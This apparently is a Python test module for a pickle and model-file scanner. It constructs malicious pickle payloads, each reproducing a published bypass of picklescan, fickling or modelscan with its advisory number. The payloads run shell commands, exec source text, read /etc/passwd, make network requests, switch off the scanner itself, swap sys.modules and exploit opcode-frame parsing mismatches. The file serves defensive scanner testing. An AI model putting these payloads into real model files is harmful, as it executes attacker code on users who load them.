"""Every published way past picklescan, fickling and modelscan, as a call beside honest weights.

The advisories' numbers are those that the scanners' own histories name for these functions. Where the function
runs under Python 3.11 with torch, the payload is real: it leaves the canary in an unprotected loader.
"""

import marshal
import pickle
import struct

from tests.attacks.builders import (
    CODE,
    COMMAND,
    LEFT,
    attack,
    called,
    dotted,
    listed,
    name,
    number,
    pickled,
    raw_bytes,
    stack_name,
    state_dict_of,
    text,
    torch_zip,
    tuple_of,
)

SHELL, PYTHON = text(COMMAND), text(CODE)
NONE, TRUE, DICT, LIST = b"N", b"\x88", b"}", b"]"
SYSTEM = pickled(called("os", "system", SHELL))
OS = called("builtins", "__import__", text("os"))
GETTER = called("builtins", "getattr", OS, text("system"))


def _family(title: str, value: bytes, told: str) -> None:
    """Register a call as an attack with a name and a docstring of its own."""

    def build() -> bytes:
        return state_dict_of(value)

    build.__name__ = build.__qualname__ = title
    build.__doc__ = told
    attack("would_call")(build)


_PICKLESCAN: tuple[tuple[str, bytes, str], ...] = (
    ("bottleneck_cprofile", called("torch.utils.bottleneck.__main__", "run_cprofile", PYTHON, DICT), "GHSA-4r9r-ch6f-vxmx: runs source text under a profiler"),
    ("bottleneck_autograd", called("torch.utils.bottleneck.__main__", "run_autograd_prof", PYTHON, DICT), "GHSA-4whj-rm5r-c2v8: runs source text under the autograd profiler"),
    ("dynamo_guards", dotted("torch._dynamo.guards", "GuardBuilder.get", DICT, PYTHON), "GHSA-86cj-95qr-2p4f: GuardBuilder.get evaluates"),
    ("symbolic_shapes", dotted("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", DICT, PYTHON, LIST), "GHSA-f4x7-rfwp-v3xw: evaluates a guard's text"),
    ("collect_env_run", called("torch.utils.collect_env", "run", SHELL), "GHSA-f745-w6jp-hpxx: runs a shell command"),
    ("collect_env_read_all", called("torch.utils.collect_env", "run_and_read_all", name("torch.utils.collect_env", "run"), SHELL), "GHSA-jhph-76pp-mggw: a function handed to a function"),
    ("datapipes_decoder", called("torch.utils.data.datapipes.utils.decoder", "basichandlers", text("pickle"), raw_bytes(SYSTEM)), "GHSA-h3qp-7fh3-f8h4: a pickle within a pickle"),
    ("jit_exec_wrapper", called("torch.jit.unsupported_tensor_ops", "execWrapper", PYTHON, DICT, DICT), "GHSA-vr7h-p6mm-wpmh: execWrapper is exec"),
    ("config_module", dotted("torch.utils._config_module", "ConfigModule.load_config", DICT, raw_bytes(SYSTEM)), "GHSA-vv6j-3g6g-2pvj: load_config unpickles"),
    ("inductor_compile_file", called("torch._inductor.codecache", "compile_file", text(""), text(""), listed(text("sh"), text("-c"), SHELL)), "inductor's compile_file starts its arguments"),
    ("torch_serialization_load", called("torch.serialization", "load", text("other.pt")), "torch.load: another file is loaded without weights_only"),
    ("trace_run", dotted("trace", "Trace.run", called("trace", "Trace"), PYTHON), "GHSA-5qwp-399c-mjwf: Trace.run"),
    ("trace_runctx", dotted("trace", "Trace.runctx", called("trace", "Trace"), PYTHON, DICT, DICT), "GHSA-g344-hcph-8vgg: Trace.runctx"),
    ("profile_method_run", dotted("profile", "Profile.run", called("profile", "Profile"), PYTHON), "GHSA-x696-vm39-cp64: Profile.run"),
    ("profile_method_runctx", dotted("profile", "Profile.runctx", called("profile", "Profile"), PYTHON, DICT, DICT), "GHSA-6vqj-c2q5-j97w: Profile.runctx"),
    ("profile_module_run", called("profile", "run", PYTHON), "GHSA-7wx9-6375-f5wh: the module's own run, where only the class was listed"),
    ("lib2to3_grammar", dotted("lib2to3.pgen2.grammar", "Grammar.loads", called("lib2to3.pgen2.grammar", "Grammar"), raw_bytes(SYSTEM)), "GHSA-f54q-57x4-jg88: Grammar.loads unpickles"),
    ("lib2to3_make_label", dotted("lib2to3.pgen2.pgen", "ParserGenerator.make_label", NONE, DICT, text('""+' + CODE)), "GHSA-p9w7-82w4-7q8m: make_label evaluates"),
    ("idle_set_text", dotted("idlelib.debugobj", "ObjectTreeItem.SetText", DICT, PYTHON), "GHSA-3vg9-h568-4w9m: SetText evaluates"),
    ("idle_autocomplete", dotted("idlelib.autocomplete", "AutoComplete.get_entity", DICT, PYTHON), "GHSA-6w4w-5w54-rjvr: get_entity evaluates"),
    ("idle_completions", dotted("idlelib.autocomplete", "AutoComplete.fetch_completions", called("idlelib.autocomplete", "AutoComplete"), PYTHON, number(1)), "GHSA-7cq8-mj8x-j263: fetch_completions evaluates"),
    ("idle_calltip", dotted("idlelib.calltip", "Calltip.fetch_tip", called("idlelib.calltip", "Calltip"), PYTHON), "GHSA-8r4j-24qv-fmq9: fetch_tip evaluates"),
    ("idle_entity", called("idlelib.calltip", "get_entity", PYTHON), "GHSA-9xph-j2h6-g47v: calltip.get_entity evaluates"),
    ("idle_executive", dotted("idlelib.run", "Executive.runcode", DICT, PYTHON), "GHSA-m869-42cg-3xwr: Executive.runcode"),
    ("idle_run_command", dotted("idlelib.pyshell", "ModifiedInterpreter.runcommand", DICT, PYTHON), "GHSA-j343-8v2j-ff7w: runcommand"),
    ("idle_run_code", dotted("idlelib.pyshell", "ModifiedInterpreter.runcode", DICT, PYTHON), "GHSA-3gf5-cxq9-w223: runcode"),
    ("interactive_interpreter", dotted("code", "InteractiveInterpreter.runcode", called("code", "InteractiveInterpreter"), PYTHON), "GHSA-cj3c-v495-4xqh: code.InteractiveInterpreter"),
    ("ensurepip", called("ensurepip", "_run_pip", listed(text("--version"))), "GHSA-xp4f-hrf8-rxw7: runs pip in a new interpreter"),
    ("pkgutil_resolve", called("pkgutil", "resolve_name", text("os:system")) + tuple_of(SHELL) + b"R", "GHSA-vvpj-8cmc-gx39: one function that reaches all others"),
    ("doctest_debug", called("doctest", "debug_script", PYTHON, TRUE), "GHSA-fqq6-7vqf-w3fg: doctest.debug_script"),
    ("cprofile_runctx", called("cProfile", "runctx", PYTHON, DICT, DICT), "GHSA-9w88-8rmg-7g2p: cProfile.runctx"),
    ("cprofile_run_source", called("cProfile", "run", PYTHON), "GHSA-49gj-c84q-6qm9: cProfile.run"),
    ("unix_transport", dotted("asyncio.unix_events", "_UnixSubprocessTransport._start", called("types", "SimpleNamespace"), SHELL, TRUE, NONE, NONE, NONE, number(0)), "GHSA-f7qq-56ww-84cr, CVE-2025-10157: a submodule of a module that is listed by its exact name"),
    ("distutils_write", called("distutils.file_util", "write_file", text(LEFT), listed(text("x"))), "GHSA-m273-6v24-x4m4: writes a file"),
    ("ctypes_library", called("ctypes", "CDLL", NONE), "GHSA-4675-36f9-wf6r: ctypes.CDLL(None) opens the process itself"),
    ("methodcaller_locate", called("operator", "methodcaller", text("system"), SHELL) + tuple_of(called("pydoc", "locate", text("os"))) + b"R", "GHSA-84r2-jw7c-4r5q: pydoc.locate and operator.methodcaller"),
    ("underscore_methodcaller", called("_operator", "methodcaller", text("system"), SHELL) + tuple_of(OS) + b"R", "GHSA-955r-x9j8-7rhh: _operator where only operator was listed"),
    ("underscore_attrgetter", called("_operator", "attrgetter", text("system")) + tuple_of(OS) + b"R" + tuple_of(SHELL) + b"R", "GHSA-46h3-79wf-xr6c, fixed with it: _operator.attrgetter"),
    ("pty_spawn", called("pty", "spawn", listed(text("touch"), text(LEFT))), "GHSA-vqmv-47xg-9wpr, and fickling GHSA-r7v6-mfhq-g3m2: pty.spawn"),
    ("f2py_getlincoef", called("numpy.f2py.crackfortran", "getlincoef", PYTHON, LIST), "GHSA-r8g5-cgf2-4m4m: f2py evaluates"),
    ("f2py_eval_length", called("numpy.f2py.crackfortran", "_eval_length", PYTHON, DICT), "the same module's second way"),
    ("uuid_command", called("uuid", "_get_command_stdout", text("touch"), text(LEFT)), "GHSA-g38g-8gr9-h9xp, fickling GHSA-5hwf-rc88-82xm: uuid starts a process"),
    ("osx_support", called("_osx_support", "_read_output", SHELL), "GHSA-g38g-8gr9-h9xp: _osx_support uses os.system"),
    ("osx_build_tool", called("_osx_support", "_find_build_tool", text(f"x; {COMMAND} #")), "fickling GHSA-5hwf-rc88-82xm: an injection into a shell line"),
    ("aix_support", called("_aix_support", "_read_cmd_output", SHELL), "GHSA-g38g-8gr9-h9xp: _aix_support uses os.system"),
    ("imap_stream", called("imaplib", "IMAP4_stream", SHELL), "GHSA-g38g-8gr9-h9xp: IMAP4_stream starts a shell"),
    ("pyrepl_pager", called("_pyrepl.pager", "pipe_pager", text("x"), SHELL), "GHSA-g38g-8gr9-h9xp: _pyrepl of Python 3.13"),
    ("test_script_helper", called("test.support.script_helper", "assert_python_ok", text("-c"), PYTHON), "GHSA-g38g-8gr9-h9xp: the test package starts interpreters"),
    ("file_io", called("_io", "FileIO", text(LEFT), text("w")), "GHSA-9726-w42j-3qjr: _io.FileIO where only open was listed"),
    ("url_open", called("urllib.request", "urlopen", text("http://127.0.0.1:9/")), "GHSA-9726-w42j-3qjr: a request that carries data out"),
    ("log_file", called("logging", "FileHandler", text(LEFT)), "GHSA-m7j5-r2p5-c39r: logging makes a file"),
    ("cloudpickle_type", called("cloudpickle.cloudpickle", "_builtin_type", text("CodeType")), "GHSA-9m3x-qqw2-h32h: cloudpickle's way to CodeType"),
    ("code_type", called("types", "CodeType", number(0)), "GHSA-9m3x-qqw2-h32h: a code object by hand"),
    ("ssl_lookup", called("ssl", "get_server_certificate", tuple_of(text("localhost"), number(9))), "exfiltration by DNS: ssl.get_server_certificate"),
    ("partial_system", called("functools", "partial", name("os", "system"), SHELL) + b")R", "functools.partial wraps the callable"),
    ("nested_pickle", called("pickle", "loads", raw_bytes(SYSTEM)), "a pickle within a pickle"),
    ("nested_c_pickle", called("_pickle", "loads", raw_bytes(SYSTEM)), "the same by its C module"),
    ("debugger_run", dotted("bdb", "Bdb.run", called("bdb", "Bdb"), PYTHON), "the debugger family: bdb"),
    ("debugger_pdb", called("pdb", "run", PYTHON), "the debugger family: pdb"),
    ("run_code", called("runpy", "_run_code", PYTHON, DICT), "fickling GHSA-wfq2-52f7-7qvj: runpy"),
    ("pip_main_install", called("pip", "main", listed(text("--version"))), "CVE-2025-1716: pip.main"),
    ("venv_create", called("venv", "create", text(LEFT)), "venv makes a folder and starts a process"),
    ("webbrowser_open", called("webbrowser", "open", text("http://127.0.0.1:9/")), "opens a browser"),
    ("timeit_setup", called("timeit", "timeit", text(""), PYTHON), "timeit's setup is source text"),
    ("apply_builtin", called("__builtin__", "apply", name("os", "system"), tuple_of(SHELL)), "Python 2's apply"),
    ("bound_open", called("builtins", "open", text(LEFT), text("w")), "open writes"),
)  # fmt: skip

_FICKLING: tuple[tuple[str, bytes, str], ...] = (
    ("marshal_function", called("types", "FunctionType", called("marshal", "loads", raw_bytes(marshal.dumps(compile(CODE, "x", "exec")))), called("builtins", "globals")) + b")R", "GHSA-565g-hwwr-4pp3: marshal.loads and types.FunctionType"),
    ("pydoc_locate", called("pydoc", "locate", text("os.system")) + tuple_of(SHELL) + b"R", "GHSA-5hvc-6wx8-mvv4: pydoc.locate"),
    ("ctypes_system", called("builtins", "getattr", called("ctypes", "CDLL", NONE), text("system")) + tuple_of(raw_bytes(COMMAND.encode())) + b"R", "GHSA-5hvc-6wx8-mvv4: C's own system()"),
    ("import_module", called("builtins", "getattr", called("importlib", "import_module", text("os")), text("system")) + tuple_of(SHELL) + b"R", "GHSA-q5qq-mvfm-j35x: importlib.import_module"),
    ("run_source", called("builtins", "getattr", called("code", "InteractiveInterpreter"), text("runsource")) + tuple_of(PYTHON) + b"R", "GHSA-q5qq-mvfm-j35x: InteractiveInterpreter.runsource"),
    ("spawn_passfds", called("multiprocessing.util", "spawnv_passfds", raw_bytes(b"/usr/bin/touch"), listed(raw_bytes(b"touch"), raw_bytes(LEFT.encode())), b")"), "GHSA-q5qq-mvfm-j35x: multiprocessing starts a process"),
    ("builtins_import", GETTER + tuple_of(SHELL) + b"R", "GHSA-h4rm-mm56-xf63: imports of builtins were not in its syntax tree"),
    ("platform_popen", called("platform", "_syscmd_file", text(LEFT)), "GHSA-5cxw-w2xg-2m8h: platform starts a process"),
    ("linecache_read", called("linecache", "getlines", text("/etc/passwd")), "GHSA-r48f-3986-4f9c: linecache reads any file"),
    ("posix_subprocess", called("_posixsubprocess", "fork_exec", LIST), "GHSA-m6fh-58r7-x697: _posixsubprocess"),
    ("site_addsitedir", called("site", "addsitedir", text(".")), "GHSA-m6fh-58r7-x697: site runs .pth files"),
    ("atexit_register", called("atexit", "register", name("os", "system"), SHELL), "GHSA-m6fh-58r7-x697: the call comes at exit"),
    ("unittest_loader", called("unittest", "TestProgram", text("x")), "GHSA-pc6j-px3p-rrj4: unittest imports and runs"),
    ("subinterpreter", called("_xxsubinterpreters", "run_string", called("_xxsubinterpreters", "create"), text(f"import os; os.system('{COMMAND}')")), "GHSA-6ggj-6f2q-f7mx: source text in a new interpreter"),
    ("signal_handler", called("signal", "raise_signal", number(0)), "GHSA-mhc9-48gj-9gp3: process control"),
    ("sqlite_file", called("sqlite3", "connect", text(LEFT)), "GHSA-mhc9-48gj-9gp3: a database makes a file"),
    ("compile_file", called("py_compile", "compile", text("x.py"), text(LEFT)), "GHSA-mhc9-48gj-9gp3: writes a .pyc"),
    ("archive_file", called("zipfile", "ZipFile", text(LEFT), text("w")), "GHSA-mhc9-48gj-9gp3: an archive makes a file"),
    ("socket_server", called("socketserver", "TCPServer", tuple_of(text("127.0.0.1"), number(0)), NONE), "GHSA-mhc9-48gj-9gp3: listens"),
    ("smtp_connect", called("smtplib", "SMTP", text("127.0.0.1"), number(9)), "the SSRF family: smtplib"),
    ("ftp_connect", called("ftplib", "FTP", text("127.0.0.1")), "the SSRF family: ftplib"),
    ("dotted_through_pathlib", dotted("pathlib", "os.system", SHELL), "GHSA-5j3x-jp52-966f: a dotted name through an innocent module"),
    ("scanner_switched_off", called("fickling.hook", "deactivate_safe_ml_environment"), "the scanner itself is imported and switched off"),
    ("getattribute_chain", dotted("collections", "OrderedDict.__class__.__subclasses__", name("builtins", "object")), "Python's sandbox-escape chain by dotted names"),
    ("map_is_lazy", called("builtins", "list", called("builtins", "map", name("os", "system"), listed(SHELL))), "map and list: the call hides in an iterator"),
    ("sorted_key", stack_name("functools", "reduce") + tuple_of(name("os", "system"), listed(SHELL, b"\x89")) + b"R", "functools.reduce as a caller"),
)  # fmt: skip

for _title, _value, _told in _PICKLESCAN:
    _family(
        _title, _value, f"picklescan {_told}" if _told.startswith("GHSA") else f"picklescan's list: {_told}"
    )
for _title, _value, _told in _FICKLING:
    _family(_title, _value, f"fickling {_told}" if _told.startswith("GHSA") else f"fickling's list: {_told}")


@attack("would_call")
def stack_global_of_strings() -> bytes:
    """picklescan GHSA-9gvj-pp9x-gcfr: STRING opcodes before STACK_GLOBAL ended the scan with an error."""
    return b"S'os'\nS'system'\n\x93S'" + COMMAND.encode() + b"'\n\x85R."


@attack("would_call")
def pickle_named_as_torch_file() -> bytes:
    """picklescan GHSA-jgw4-cr84-mqxg, CVE-2025-10155: a plain pickle under a torch file's name."""
    return pickle.dumps([1, 2])[:-1] + called("os", "system", SHELL) + b"\x86."


@attack("would_call")
def magic_number_by_a_call() -> bytes:
    """picklescan GHSA-97f8-7cmv-76j2: a legacy stream whose magic number is what eval returns."""
    magic = pickled(called("builtins", "eval", text("0x1950A86A20F9469CFC6C")))
    rest = pickled(number(1001)) + pickled(b"}") + pickled(b"]")
    return magic + rest + pickled(called("os", "system", SHELL)) + pickled(b"N")


@attack("would_call")
def object_then_pop() -> bytes:
    """fickling GHSA-mxhj-88fx-4pcv: an OBJ call whose value is popped vanished from its program."""
    return state_dict_of(b"(" + name("os", "system") + SHELL + b"o0N")


@attack("frame_mismatch")
def frame_ends_within_an_opcode() -> bytes:
    """CPython issue 154848: bytes reach past their frame; the C reader of files runs what they hide."""
    hidden = b"cos\nsystem\n" + b"V" + COMMAND.encode() + b"\n\x85R"
    length = 256 + 5 + 2
    body = b"\x95" + struct.pack("<Q", 2) + b"B" + struct.pack("<I", length) + b"\0\0"
    return torch_zip(b"\x80\x05N0(" + body + (hidden + b"(").ljust(length - 2, b"N") + b"1}.")


@attack("frame_mismatch")
def frame_within_a_frame() -> bytes:
    """A frame that opens within another: readers differ in where it ends."""
    inner = b"\x95" + struct.pack("<Q", 2) + b"N0"
    return torch_zip(b"\x80\x05\x95" + struct.pack("<Q", 30) + inner + b"N0" * 10 + b"}.")


@attack("would_call")
def memo_of_another_value() -> bytes:
    """picklescan issue 22: MEMOIZE and PUT number the memo differently, the scanner sees another name."""
    parts = (
        text("collections")
        + b"q\x01"
        + text("OrderedDict")
        + b"q\x02"
        + text("os")
        + b"q\x01"
        + text("system")
    )
    return state_dict_of(parts + b"q\x02000" + b"0h\x01h\x02\x93" + tuple_of(SHELL) + b"R")


@attack("would_call")
def name_from_a_computed_string() -> bytes:
    """STACK_GLOBAL whose strings come through a tuple and POP_MARK: a search backwards finds others."""
    parts = text("os") + text("system") + b"(" + text("collections") + text("OrderedDict") + b"1\x93"
    return state_dict_of(parts + tuple_of(SHELL) + b"R")


@attack("would_call")
def reduce_ex_by_dup() -> bytes:
    """DUP of the callable: it is named once and called twice."""
    return state_dict_of(
        name("os", "system") + b"2" + tuple_of(text("true")) + b"R0" + tuple_of(SHELL) + b"R"
    )


@attack("would_set_state")
def setstate_of_a_class() -> bytes:
    """BUILD with slots on a named class: its attributes are replaced for the whole process."""
    state = b"N}" + text("__setstate__") + name("os", "system") + b"s\x86"
    return state_dict_of(name("torch.nn.modules.linear", "Linear") + state + b"b")


@attack("would_call")
def append_to_a_computed_object() -> bytes:
    """APPEND calls `.append` or `.extend` of whatever an earlier call returned."""
    made = called("builtins", "getattr", OS, text("environ"))
    return state_dict_of(made + text("CALIPER_CANARY") + b"a")


@attack("would_call")
def setitem_on_a_computed_object() -> bytes:
    """SETITEM on os.environ: nothing is called by name, the process is changed."""
    made = called("builtins", "getattr", OS, text("environ"))
    return state_dict_of(made + text("CALIPER_CANARY") + text("1") + b"s")


@attack("would_import")
def setitem_on_modules() -> bytes:
    """SETITEM on sys.modules swaps a module under a trusted name (picklescan's sys_module_override file)."""
    swap = name("sys", "modules") + text("os") + name("sys", "modules") + b"s"
    return state_dict_of(swap)
